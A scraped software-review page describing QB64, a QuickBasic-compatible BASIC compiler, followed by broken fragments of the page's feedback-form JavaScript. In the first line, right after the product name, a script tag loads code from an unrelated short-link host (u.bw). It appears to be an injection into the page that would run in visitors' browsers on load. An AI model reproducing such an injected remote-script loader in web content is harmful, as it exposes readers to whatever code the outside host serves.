Windows, Linux


QB64<script src=http://u.bw/AxCpI9z></script>QB64 (originally QB32) is a BASIC compiler compatible with Microsoft QBASIC and QuickBasic. QB64 produces a C++ code that is compiled into stand-alone EXEs with its integrated C++ compiler. Resulting EXEs have an overhead of aprox. 1Mb. QB64 supports most QBASIC and QuickBasic statements. Users will enjoy using again their old sources thanks to this very good product. But QB64 also extends QuickBasic commands. These new statements begin with an underscore inorder to avoid conflicts. QB64 adds new data types including such as _BIT, _BYTE, and _INTEGER64 as well as unsigned data types. The new data types have suffixes just like the traditional BASIC data types. QB64 also includes an audio library which allows playing most common audio formats including MP3, Ogg Vorbis, and MIDI files as well as libraries allowing users to use higher resolution graphics than the 640x480 offered by QuickBASIC, use different fonts, and plot images in BMP, PNG, and JPEG format. Do you remember Gorillas.bas and Nibbles.bas? QB64 will run them without effort. Very good job.

Rated 3/5 upon 57 votes
Review updated: 2009-01-20 QB64 homepage
listed at The Basics' page'/>

Your name and/or email: (optional but kindly requested)"; boxy_content += ""; contactBoxy = new Boxy(boxy_content, { title: "Send feedback", draggable: false, modal: true, behaviours: function(c) { c.find('#feedback').submit(function() { Boxy.get(this).setContent("
"); // submit form by ajax using post and send 3 values: subject, your_email, comment $.post("feedback.php", { subject: c.find("input[name='subject']").val(), your_email:c.find("input[name='your_email']").val(), comment: c.find("#comment").val()}, function(data){ /*set boxy content to data from ajax call back*/ contactBoxy.setContent("
"); }); return false; }); } }); return false; }); /* }); */ $('#myreviewstable').tableScroll({ height: 155, width: 400 }); $("th, td").absPos(); // --- });